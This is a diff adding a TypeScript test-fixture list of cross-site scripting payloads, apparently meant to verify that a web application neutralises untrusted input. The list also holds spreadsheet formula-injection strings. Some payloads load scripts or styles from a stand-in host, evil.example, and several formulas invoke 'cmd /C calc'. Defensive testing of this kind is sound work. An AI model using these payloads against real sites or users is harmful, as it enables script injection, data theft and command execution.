@@ -1,0 +1,60 @@
+/**
+ * Texts by which a page is made to run what somebody wrote, each another way: elements, handlers, addresses, what ends the
+ * place it stands in (an attribute, a script, a comment, a title, JSON), templates, SVG, entities, and spreadsheets.
+ * Each that came through would call one of `alert`, `confirm`, `prompt` and `print`, load something, or leave a `.pwned`.
+ */
+export const hostileTexts: readonly string[] = [
+  "<script>alert(1)</script>",
+  "</script><script>alert(2)</script>",
+  "<script src=https://evil.example/x.js></script>",
+  '"><script>alert(3)</script>',
+  "'><img src=x onerror=alert(4)>",
+  "<img src=x onerror=confirm(5)>",
+  '<img src="x" onerror="print()">',
+  "<IMG SRC=x OnErRoR=alert(6)>",
+  "<img/src=x/onerror=alert(7)>",
+  "<svg onload=alert(8)>",
+  "<svg><script>alert(9)</script></svg>",
+  "<svg><animate onbegin=alert(10) attributeName=x dur=1s>",
+  "<svg><a xlink:href=javascript:alert(11)><text class=pwned>x</text></a></svg>",
+  "</text><text class=pwned onclick=alert(12)>x</text>",
+  "<body onload=alert(13)>",
+  "<details open ontoggle=alert(14)>",
+  "<input autofocus onfocus=alert(15)>",
+  "<video><source onerror=alert(16)></video>",
+  "<iframe src=javascript:alert(17)></iframe>",
+  '<iframe srcdoc="<script>parent.alert(18)</script>"></iframe>',
+  "<object data=javascript:alert(19)></object>",
+  "<embed src=https://evil.example/x.swf>",
+  "<a href=javascript:alert(20) class=pwned>x</a>",
+  "javascript:alert(21)",
+  "data:text/html,<script>alert(22)</script>",
+  "<form action=javascript:alert(23)><button class=pwned>x</button></form>",
+  "<meta http-equiv=refresh content=0;url=https://evil.example/>",
+  "<base href=https://evil.example/>",
+  "<link rel=stylesheet href=https://evil.example/x.css>",
+  "<style>@import 'https://evil.example/x.css';</style>",
+  "<b class=pwned style=position:fixed;inset:0>x</b>",
+  "--><script>alert(24)</script><!--",
+  "]]><script>alert(25)</script>",
+  "</title><script>alert(26)</script>",
+  "</textarea><script>alert(27)</script>",
+  '\\"};alert(28);//',
+  "\\u003cscript\\u003ealert(29)\\u003c/script\\u003e",
+  "&lt;script&gt;alert(30)&lt;/script&gt;",
+  "&#60;img src=x onerror=alert(31)&#62;",
+  "{{constructor.constructor('alert(32)')()}}",
+  "$" + "{alert(33)}",
+  '{"__proto__":{"innerHTML":"<img src=x onerror=alert(34)>"}}',
+  "<math><mtext></math><img src=x onerror=alert(35)>",
+  "<noscript><p title='</noscript><img src=x onerror=alert(36)>'>",
+  "<xss-x tabindex=1 onfocus=alert(37) class=pwned>",
+];
+
+/** What a spreadsheet takes for a formula when nobody stops it. */
+export const hostileFormulas: readonly string[] = [
+  '=HYPERLINK("https://evil.example","x")',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+];
